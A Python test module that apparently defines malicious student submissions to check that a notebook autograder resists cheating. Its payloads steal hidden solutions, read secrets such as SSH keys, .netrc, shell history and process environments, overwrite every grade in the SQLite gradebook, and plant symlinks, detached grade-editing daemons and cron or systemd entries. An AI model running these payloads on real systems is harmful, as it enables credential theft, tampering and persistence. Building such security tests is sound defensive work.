"""Attacks that read or change what is not theirs: answers, grades, other students, the clock (rows 9 to 11, 28)."""

from datetime import UTC, datetime, timedelta

from recipe import Collection, Desk, Step

COLLECTION = Collection()
cheat, recipe = COLLECTION.cheat, COLLECTION.recipe

_STEAL = """
import json, os, pathlib, re

def use(text):
    for source in ("".join(cell["source"]) for cell in json.loads(text)["cells"] if cell["cell_type"] == "code"):
        if "SOLUTION" in source or "### BEGIN" in source or source.startswith("def "):
            exec(source, get_ipython().user_global_ns)
"""
cheat(
    9,
    "reads_the_source_notebook",
    "runs the solutions in ../../../source, and wherever else they may lie",
    _STEAL
    + """
places = [pathlib.Path("@COURSE@"), *pathlib.Path.cwd().parents, pathlib.Path("/srv"), pathlib.Path("/proc/1/cwd")]

def steal():
    for place in places:
        for found in place.glob("source/*/objectives.ipynb"):
            print("STOLEN", found)
            use(found.read_text())
            return True
    return False

get_ipython().events.register("post_run_cell", lambda result: steal())
""",
)
cheat(
    9,
    "imports_the_references",
    "answers by importing the installed references",
    """
import importlib, importlib.util, os, sys

sys.modules.pop("headstart_solutions", None)
sys.modules.pop("headstart_grading", None)
importlib.invalidate_caches()

def steal():
    kit = os.path.dirname(os.path.dirname(importlib.util.find_spec("headstart").origin))
    for folder in [*sys.path, "@COURSE@", kit, os.path.dirname(kit)]:
        for top, _, names in os.walk(folder):
            if os.path.basename(top) in ("headstart_solutions", "strangers", "mistakes") and "objectives.py" in names:
                spec = importlib.util.spec_from_file_location("stolen", os.path.join(top, "objectives.py"))
                stolen = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(stolen)
                return stolen
            if top.count(os.sep) > 9:
                break
    import headstart_solutions.objectives
    return headstart_solutions.objectives

stolen = steal()
get_ipython().events.register("post_run_cell", lambda result: get_ipython().user_ns.update(
    {name: value for name, value in vars(stolen).items() if callable(value)}))
""",
)
cheat(
    9,
    "asks_the_grading_package",
    "makes the check packs, with what is expected in them",
    """
import sys

sys.modules.pop("headstart_grading", None)
sys.modules.pop("headstart_solutions", None)
from headstart_grading.packs import make_pack

stolen = {one.question.code: one.expected for one in make_pack("joint_objective").cases}
print("STOLEN", stolen)
get_ipython().events.register("post_run_cell", lambda result: get_ipython().user_ns.update(
    joint_objective=lambda *_, **__: next(iter(stolen.values()))))
""",
)
cheat(
    9,
    "reads_secrets",
    "prints the gradebook, a secret file, other submissions, logs, and every environment",
    """
import glob, os, pathlib

roots = ["@COURSE@", *map(str, pathlib.Path.cwd().parents), os.path.expanduser("~"), "/root", "/home", "/var", "/srv"]
names = ["secret.txt", "gradebook.db", ".headstart/grading.jsonl", "nbgrader_config.py", "submitted/*/*/*.ipynb",
         "autograded/*/*/*.ipynb", "*/.ssh/id_*", ".netrc", ".bash_history"]
found = {path for root in roots for name in names for path in glob.glob(os.path.join(root, name))}
found |= set(glob.glob("/proc/[0-9]*/environ")) | set(glob.glob("/proc/[0-9]*/cwd/secret.txt"))
found |= set(glob.glob("/proc/[0-9]*/root@COURSE@/secret.txt")) | set(glob.glob("/proc/[0-9]*/fd/*"))
print(dict(os.environ))
for path in sorted(found):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        print(path, os.read(descriptor, 10**5))
        os.close(descriptor)
    except OSError as error:
        print(path, error)
""",
)
cheat(
    9,
    "looks_through_links",
    "makes links to what it may not read, and has them read",
    """
import os

for name in ("secret.txt", "gradebook.db", "source/objectives/objectives.ipynb"):
    for target in (f"@COURSE@/{name}", f"../../../{name}"):
        link = name.replace("/", "-") + str(len(target))
        os.symlink(target, link)
        try:
            print(open(link, "rb").read()[:10**5])
        except OSError as error:
            print(error)
""",
)


@recipe(
    9, "hands_in_a_link", "the notebook handed in is a link to the source notebook", outcomes=frozenset({"malformed"})
)
def hands_in_a_link(desk: Desk) -> None:
    desk.path.symlink_to(desk.surroundings.course / "source" / desk.chapter / f"{desk.chapter}.ipynb")


@recipe(9, "hands_in_a_linked_folder", "the folder handed in is a link to the folder of source notebooks",
        outcomes=frozenset({"malformed"}))  # fmt: skip
def hands_in_a_linked_folder(desk: Desk) -> None:
    desk.hands_in_notebook = False
    desk.folder.rmdir()
    desk.folder.symlink_to(desk.surroundings.course / "source" / desk.chapter)


@recipe(9, "puts_links_beside", "links to secrets lie beside the notebook, so that they come back with its feedback")
def puts_links_beside(desk: Desk) -> None:
    desk.answer_wrongly()
    for name in ("secret.txt", "gradebook.db", "source"):
        (desk.folder / f"my-{name}").symlink_to(desk.surroundings.course / name)
    (desk.folder / "timestamp.txt").symlink_to(desk.surroundings.course / "secret.txt")
    desk.put("notes/plain.txt", "harmless")


_GRADES = """
import glob, os, pathlib, sqlite3

def raise_grades():
    places = ["@COURSE@", *map(str, pathlib.Path.cwd().parents), *glob.glob("/proc/[0-9]*/cwd")]
    for path in {os.path.join(place, "gradebook.db") for place in places}:
        try:
            if os.path.exists(path):
                with sqlite3.connect(path) as book:
                    book.execute("UPDATE grade SET auto_score = 10, manual_score = 10, extra_credit = 3")
                print("RAISED", path)
        except Exception as error:
            print(path, error)
"""
cheat(10, "writes_into_the_gradebook", "raises all grades in the gradebook's SQLite file", _GRADES + "\nraise_grades()")
cheat(
    10,
    "writes_while_asked",
    "raises all grades when its answers are asked for",
    _GRADES
    + """
def cheat(*_, **__):
    raise_grades()
    return 0.5

get_ipython().events.register("post_run_cell", lambda result: get_ipython().user_ns.update(joint_objective=cheat))
""",
)
_DETACHED = """
import subprocess, sys

code = '''
import os, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
time.sleep(@DELAY@)
''' + @GRADES@ + '''
while True:
    raise_grades()
    time.sleep(1)
'''
subprocess.Popen([sys.executable, "-c", code, "@MARK@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
for _name, _delay in (("edits_grades_afterwards", "3"), ("edits_grades_from_now_on", "0")):
    cheat(11, _name, "a detached process edits the gradebook after grading",
          _DETACHED.replace("@DELAY@", _delay).replace("@GRADES@", repr(_GRADES)))  # fmt: skip
cheat(
    11,
    "leaves_a_timer",
    "asks cron, at and systemd to edit grades later",
    """
import os, subprocess

line = "* * * * * echo @MARK@ > @COURSE@/pwned"
for place in ("/etc/cron.d/grades", "/var/spool/cron/crontabs/root", "/etc/profile.d/grades.sh"):
    try:
        with open(place, "w") as file:
            file.write(line)
    except OSError as error:
        print(error)
for command in (["crontab", "-"], ["at", "now"], ["systemd-run", "--on-active=2", "true"]):
    try:
        subprocess.run(command, input=line.encode(), capture_output=True, timeout=5)
    except OSError as error:
        print(error)
""",
)


def _early(desk: Desk) -> str:
    return (datetime.now(UTC) - timedelta(days=365)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")


def _forge_time(desk: Desk) -> None:
    desk.answer_wrongly()
    desk.notebook["metadata"]["timestamp"] = _early(desk)
    for name in ("timestamp.txt", ".timestamp", "submitted_at"):
        desk.put(name, _early(desk))


def _forge_time_again(desk: Desk) -> None:
    desk.answer_wrongly()
    desk.answer_rightly("joint_objective")
    desk.put("timestamp.txt", "9999-99-99 99:99:99 UTC\n" * 1000)


COLLECTION.add(
    28, "forges_its_time", "hands in twice, with forged times beside the notebook",
    Step(_forge_time), Step(_forge_time_again, frozenset({"joint_objective"})),
)  # fmt: skip
